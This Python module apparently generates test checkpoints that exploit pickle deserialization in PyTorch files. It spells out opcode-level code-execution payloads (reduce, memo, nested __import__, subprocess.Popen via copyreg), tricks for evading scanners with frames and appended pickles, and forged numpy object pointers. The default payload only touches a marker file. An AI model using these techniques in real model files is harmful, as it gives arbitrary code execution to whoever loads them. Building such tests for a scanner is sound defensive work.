"""Pickles that would run something when they are loaded, by each of the ways that a pickle has."""

from . import archive, pickling, values
from .export import edit
from .pickling import Built, Global, Raw, Storage

FUNCTION, ARGUMENT = "posix.system", "touch executed"
LEGACY_PICKLES = ("magic number", "protocol", "system information", "object", "storage keys")


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + len(data).to_bytes(4, "little") + data


def short(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def by_name(qualified: str) -> bytes:
    module, name = qualified.rsplit(".", 1)
    return f"c{module}\n{name}\n".encode()


def call(function: str, argument: str) -> bytes:
    return by_name(function) + text(argument) + b"\x85R"


def opcodes_of(style: str, function: str, argument: str) -> bytes:
    module, name = function.rsplit(".", 1)
    named, said = by_name(function), text(argument)
    return {
        "reduce": call(function, argument),
        "best_state": call(function, argument),
        "stack_global": short(module) + short(name) + b"\x93" + said + b"\x85R",
        "inst": b"(" + said + f"i{module}\n{name}\n".encode(),
        "obj": b"(" + named + said + b"o",
        "setstate": by_name("types.SimpleNamespace") + b")R}" + text("__setstate__") + named + b"sb" + said + b"b",
        "ext": b"\x82\x01" + said + b"\x85R",
        # Names and function go through the memo and come back by other opcodes, with a value dropped in between.
        "memo": short(module) + b"r\xff\x00\x01\x000" + short(name) + b"r\xfe\x00\x01\x000j\xff\x00\x01\x00j\xfe\x00\x01\x00"
                b"\x93r\xfd\x00\x01\x000N0j\xfd\x00\x01\x00" + said + b"\x85R",
        # getattr(__import__(module), name)(argument): the function is the result of calls.
        "nested": by_name("builtins.getattr") + by_name("builtins.__import__") + text(module) + b"\x85R" + text(name) +
                  b"\x86R" + said + b"\x85R",
        # A harmless function of PyTorch's own calls what it is given.
        "rebuild": by_name("torch._tensor._rebuild_from_type_v2") + b"(" + named + by_name("torch.Tensor") + said +
                   b"\x85}tR",
        # subprocess.Popen([...]) by copyreg._reconstructor, which every pickle of protocol 0 needs.
        "reconstructor": by_name("copyreg._reconstructor") + b"(" + by_name("subprocess.Popen") + b"2](" +
                         b"".join(text(word) for word in argument.split()) + b"etR",
        # Nothing is left of it in the package: called, and dropped.
        "dropped": call(function, argument) + b"0N"}[style]


@edit
def inject_global(export, file, style="reduce", function=FUNCTION, argument=ARGUMENT, key="comment"):
    """Adds a key whose value calls `function` when it is unpickled. Styles: reduce, stack_global, inst, obj, setstate
    (the call hides in BUILD), ext (an extension code), memo (everything comes out of the memo), nested (the function is
    the result of other calls), rebuild (PyTorch's own _rebuild_from_type_v2 calls it), reconstructor (copyreg's own calls
    subprocess.Popen), dropped (its result is popped), best_state (reduce, inside the state dict)."""
    target = export.state(file) if style == "best_state" else export.package(file)
    target[key] = Raw(opcodes_of(style, function, argument))


@edit
def patch_pickle(export, file, opcodes_hex, key="comment"):
    """Adds a key whose value is whatever these opcodes make."""
    export.package(file)[key] = Raw(bytes.fromhex(opcodes_hex))


# Opcodes that leave nothing on the stack, which CPython's unpickler takes and no writer writes.
def followed_by_python_alone(what: str) -> bytes:
    made_of_range = by_name("builtins.tuple") + by_name("builtins.range") + b"K\x01\x85R\x85R"
    copied = by_name("builtins.tuple") + b"j\x60\xea\0\0\x85R0"
    return {
        "build_of_none": b"NNb0",
        "setitem_on_list": b"](NeK\x00Ns0",
        "append_to_bytearray": by_name("builtins.bytearray") + b")RK\x41a0",
        "arguments_of_a_range": by_name("builtins.str") + made_of_range + b"R0",
        "memo_with_underscore": b"Np999_999\n0",
        "integer_in_hexadecimal": b"I0x10\n0",
        "long_with_blank": b"L 10L\n0",
        "true_as_a_size": b"(" + text("storage") + by_name("torch.ByteStorage") + text("0") + text("cpu") + b"\x88tQ0",
        "counter_of_a_list": by_name("collections.Counter") + b"](" + text("a") + text("b") + b"e\x85R0",
        "memo_far_away": b"Nr\x00\x00\x00\x010",
        "copies": b"](" + b"K\x01" * 4096 + b"er\x60\xea\0\0" + b"0" + copied * 2048,
        "many_values": b"K\x010" * 9_000_000}[what]


@edit
def call_behind(export, file, what, function=FUNCTION, argument=ARGUMENT, key="comment"):
    """Adds a key whose value calls `function`, behind opcodes that Python follows and a careful reader does not: see
    followed_by_python_alone."""
    export.package(file)[key] = Raw(followed_by_python_alone(what) + call(function, argument))


@edit
def call_computed_name(export, file, part="module", function=FUNCTION, argument=ARGUMENT, key="comment"):
    """Calls `function` by STACK_GLOBAL, its module (or its name) being the result of builtins.str(...); `long`: by a dotted
    name that takes a way of 640 characters to it, os.path.os.path... ."""
    module, name = function.rsplit(".", 1)
    computed = lambda word: by_name("builtins.str") + text(word) + b"\x85R"  # noqa: E731
    named = {"module": computed(module) + text(name), "name": text(module) + computed(name),
             "long": b"\x80\x04" + text("os") + text("path.os." * 80 + name)}[part]
    export.package(file)[key] = Raw(named + b"\x93" + text(argument) + b"\x85R" + (b"\x80\x02" if part == "long" else b""))


@edit
def call_in_crossed_frame(export, file, function=FUNCTION, argument=ARGUMENT, key="comment"):
    """A FRAME that ends inside an argument. Python's C unpickler drops what is left of the frame, so that its program begins
    one byte later: it reads a call where a reader that passes over frames reads a harmless value of bytes."""
    code = call(function, argument) + b"0"
    room = code[0] + 1 - len(code)
    code += b"N0" * ((room - 1) // 2) + b"N" if room % 2 else b"N0" * ((room - 4) // 2) + b"(N1N"
    export.package(file)[key] = Raw(b"\x95\x03" + b"\0" * 7 + b"\x8c\x03xabC" + code + b"0")


@edit
def forge_numpy(export, file, by="frombuffer", key="comment"):
    """Adds a numpy array of objects whose pointers are bytes of the file: numpy.dtype's BUILD is given a field of objects and no
    flags, and the text of the array is asked for. `by`: frombuffer, ndarray, reconstruct, scalar."""
    dtype = lambda name: by_name("numpy.dtype") + text(name) + b"\x89\x88\x87R"  # noqa: E731
    state = b"(K\x03" + text("|") + b"N" + text("f") + b"\x85}" + text("f") + dtype("O8") + b"K\x00\x86sK\x08K\x01K\x00t"
    forged, data, shape = dtype("V8") + state + b"b", b"C\x08" + b"A" * 8, b"K\x01\x85"
    array = {
        "frombuffer": by_name("numpy.core.numeric._frombuffer") + b"(" + data + forged + shape + text("C") + b"tR",
        "ndarray": by_name("numpy.ndarray") + shape + forged + data + b"\x87R",
        "scalar": by_name("numpy.core.multiarray.scalar") + forged + data + b"\x86R",
        "reconstruct": by_name("numpy.core.multiarray._reconstruct") + by_name("numpy.ndarray") + b"K\x00\x85C\x01b\x87R(K\x01" +
                       shape + forged + b"\x89" + data + b"tb"}[by]
    export.package(file)[key] = Raw(by_name("builtins.str") + array + b"\x85R")


@edit
def build_on_tensor(export, file, tensor, value=7.0, in_a_list=False):
    """BUILD of a tensor with (storage, offset, shape, strides), which Tensor.__setstate__ puts in the place of its own: every
    element is `value` once it is loaded."""
    target = export.tensor(file, tensor)
    other = Storage("FloatStorage", bytearray(values.pack("FloatStorage", [float(value)])))
    state = (other, 0, target.shape, (0,) * len(target.shape))
    export.state(file)[tensor] = Built(target, list(state) if in_a_list else state)


@edit
def build_on_state(export, file, attribute="keys", opcodes_hex=""):
    """BUILD of best_state, which sets `attribute` of the OrderedDict to what these opcodes make (builtins.list, where there are
    none): load_state_dict copies the dict by it."""
    made = Raw(bytes.fromhex(opcodes_hex)) if opcodes_hex else Global("builtins", "list")
    package = export.package(file)
    package["best_state"] = Built(package["best_state"], {attribute: made})


@edit
def append_pickle(export, file, function=FUNCTION, argument=ARGUMENT):
    """A second pickle behind the STOP of data.pkl, which calls `function`."""
    entries = archive.read_zip(export.read_bytes(file))
    entry = archive.find_entry(entries, "data.pkl")
    entry.__init__(entry.name, entry.data + b"\x80\x02" + call(function, argument) + b".")
    export.write_bytes(file, archive.write_zip(entries))


@edit
def add_pickle_record(export, file, record="extra.pkl", function=FUNCTION, argument=ARGUMENT):
    """One more record in the archive: a pickle that calls `function`."""
    entries = archive.read_zip(export.read_bytes(file))
    folder = entries[0].name.split("/", 1)[0]
    entries.append(archive.Entry(f"{folder}/{record}", b"\x80\x02" + call(function, argument) + b"."))
    export.write_bytes(file, archive.write_zip(entries))


@edit
def to_unsafe_legacy(export, file, pickle="system information", unfollowed=None, function=FUNCTION, argument=ARGUMENT):
    """torch.save's legacy format, a call in one of its five pickles: magic number, protocol, system information, object,
    storage keys. The call's result is dropped; the pickle's own value follows. `unfollowed`: another of them, which begins
    with opcodes that Python follows and a careful reader does not."""
    data = archive.Checkpoint(export.read_bytes(file)).to_legacy()
    at, parts = 0, []
    for name in LEGACY_PICKLES:
        end = pickling.end_of(data, at)
        added = call(function, argument) + b"0" if name == pickle else b""
        added += followed_by_python_alone("build_of_none") if name == unfollowed else b""
        parts.append(data[at:at + 2] + added + data[at + 2:end])
        at = end
    export.write_bytes(file, b"".join(parts) + data[at:])


@edit
def replace_with_pickle(export, file, function=FUNCTION, argument=ARGUMENT):
    """A bare pickle that calls `function`, in the file's place: torch.load runs it before it sees that it is no checkpoint."""
    export.write_bytes(file, b"\x80\x04" + call(function, argument) + b".")
